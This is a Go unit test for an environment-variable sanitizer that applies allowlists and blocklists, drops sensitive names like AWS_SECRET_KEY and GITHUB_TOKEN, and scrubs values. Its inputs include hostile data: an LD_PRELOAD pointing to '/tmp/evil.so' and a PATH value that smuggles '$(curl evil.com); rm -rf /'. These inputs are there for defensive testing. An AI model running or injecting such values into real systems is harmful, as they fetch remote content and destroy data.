package security

import (
	"maps"
	"testing"

	"github.com/toolgate/toolgate/internal/log"
)

func TestSanitizeEnvVars(t *testing.T) {
	logger := log.NewNop()

	t.Run("allowlist without passthrough", func(t *testing.T) {
		s := NewEnvVarSanitizer(EnvironmentPolicy{
			AllowedVars: []string{"PATH", "HOME"},
			BlockedVars: []string{"LD_PRELOAD"},
		}, logger)

		got := s.SanitizeEnvVars(map[string]string{
			"PATH":       "/usr/bin",
			"HOME":       "/home/user",
			"LD_PRELOAD": "/tmp/evil.so",
			"SECRET_KEY": "hunter2",
		})

		want := map[string]string{
			"PATH": "/usr/bin",
			"HOME": "/home/user",
		}
		if !maps.Equal(got, want) {
			t.Errorf("SanitizeEnvVars = %v, want %v", got, want)
		}
	})

	t.Run("blocked wins over allowed", func(t *testing.T) {
		s := NewEnvVarSanitizer(EnvironmentPolicy{
			AllowedVars: []string{"LD_PRELOAD"},
			BlockedVars: []string{"LD_PRELOAD"},
		}, logger)

		got := s.SanitizeEnvVars(map[string]string{"LD_PRELOAD": "/tmp/evil.so"})
		if len(got) != 0 {
			t.Errorf("SanitizeEnvVars = %v, want empty", got)
		}
	})

	t.Run("passthrough still filters sensitive names", func(t *testing.T) {
		s := NewEnvVarSanitizer(EnvironmentPolicy{
			AllowPassthrough: true,
		}, logger)

		got := s.SanitizeEnvVars(map[string]string{
			"EDITOR":         "vim",
			"AWS_SECRET_KEY": "abc",
			"DB_PASSWORD":    "pw",
			"GITHUB_TOKEN":   "ghp_x",
		})

		want := map[string]string{"EDITOR": "vim"}
		if !maps.Equal(got, want) {
			t.Errorf("SanitizeEnvVars = %v, want %v", got, want)
		}
	})

	t.Run("explicit allow overrides sensitive filter", func(t *testing.T) {
		s := NewEnvVarSanitizer(EnvironmentPolicy{
			AllowedVars:      []string{"API_URL"},
			AllowPassthrough: true,
		}, logger)

		got := s.SanitizeEnvVars(map[string]string{"API_URL": "https://api.example.com"})
		if got["API_URL"] != "https://api.example.com" {
			t.Errorf("SanitizeEnvVars = %v, want API_URL kept", got)
		}
	})

	t.Run("sanitize vars scrub values", func(t *testing.T) {
		s := NewEnvVarSanitizer(EnvironmentPolicy{
			AllowedVars:  []string{"PATH"},
			SanitizeVars: []string{"PATH"},
		}, logger)

		got := s.SanitizeEnvVars(map[string]string{
			"PATH": "/usr/bin:$(curl evil.com); rm -rf /",
		})
		if got["PATH"] != "/usr/bincurlevil.comrm-rf/" {
			t.Errorf("scrubbed PATH = %q", got["PATH"])
		}
	})
}
